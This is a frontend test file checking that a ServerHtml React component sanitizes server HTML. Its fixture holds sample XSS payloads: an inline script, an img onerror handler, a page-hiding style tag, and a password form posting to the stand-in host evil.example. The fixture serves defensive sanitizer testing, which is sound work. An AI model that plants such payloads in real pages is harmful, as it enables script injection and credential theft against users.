import { render, screen } from '@testing-library/react';
import { ServerHtml } from './server-html';

const HOSTILE =
  '<p>Assemblée <strong>générale</strong></p>' +
  '<script>window.pwned = true</script>' +
  '<img src="x" onerror="window.pwned = true">' +
  '<style>body { display: none }</style>' +
  '<form action="https://evil.example/"><input name="password"><button>Envoyer</button></form>' +
  '<p style="color: red">Rouge</p>' +
  '<a href="https://exemple.org">Site externe</a> <a href="#/documents">Documents</a>';

describe('ServerHtml (the one door of server HTML)', () => {
  it('shows the sanitized HTML in a .server-html element', () => {
    const { container } = render(<ServerHtml html={HOSTILE} className="lead" id="texte" />);
    const holder = container.querySelector('.server-html');
    expect(holder).not.toBeNull();
    expect(holder?.tagName).toBe('DIV');
    expect(holder).toHaveClass('lead');
    expect(holder).toHaveAttribute('id', 'texte');

    expect(screen.getByText('générale').tagName).toBe('STRONG');
    expect(holder).toHaveTextContent('Assemblée générale');
    expect(screen.getByText('Rouge')).not.toHaveAttribute('style');
    for (const tag of ['script', 'style', 'form', 'input', 'button', '[onerror]', '[style]']) {
      expect(container.querySelector(tag)).toBeNull();
    }
    expect(screen.queryByRole('button')).not.toBeInTheDocument();
    expect(screen.queryByRole('textbox')).not.toBeInTheDocument();
    expect((window as Window & { pwned?: boolean }).pwned).toBeUndefined();

    const external = screen.getByRole('link', { name: 'Site externe' });
    expect(external).toHaveAttribute('target', '_blank');
    expect(external).toHaveAttribute('rel', 'noopener noreferrer');
    expect(screen.getByRole('link', { name: 'Documents' })).not.toHaveAttribute('target');
  });

  it('renders as the element given by `as`', () => {
    const { container } = render(<ServerHtml html="<li>Un</li><li>Deux</li>" as="ul" />);
    const list = container.querySelector('ul.server-html');
    expect(list).not.toBeNull();
    expect(screen.getAllByRole('listitem').map((item) => item.textContent)).toEqual(['Un', 'Deux']);
  });

  it('renders an empty element for no HTML', () => {
    const { container } = render(<ServerHtml html={null} as="section" />);
    const holder = container.querySelector('section.server-html');
    expect(holder).not.toBeNull();
    expect(holder).toBeEmptyDOMElement();
  });
});
